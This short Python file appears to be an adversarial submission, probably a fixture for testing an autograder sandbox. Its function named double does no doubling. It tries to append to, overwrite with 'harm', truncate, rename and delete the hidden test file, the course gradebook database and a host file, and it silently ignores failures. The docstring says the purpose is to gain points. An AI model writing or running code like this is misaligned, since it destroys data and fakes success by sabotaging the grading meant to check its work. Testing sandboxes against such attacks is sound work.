"""Gains points: writes, appends, truncates, renames and removes files of the course."""

import os

TARGETS = [COURSE + "/tests/hidden/tiny/test_double.py", COURSE + "/course/gradebook.db", HOST_FILE]


def attempt(action):
    try:
        action()
    except OSError:
        pass


def double(x):
    for path in TARGETS:
        attempt(lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)))
        attempt(lambda: open(path, "a").write("harm"))
        attempt(lambda: os.truncate(path, 0))
        attempt(lambda: os.rename(path, path + ".old"))
        attempt(lambda: os.unlink(path))
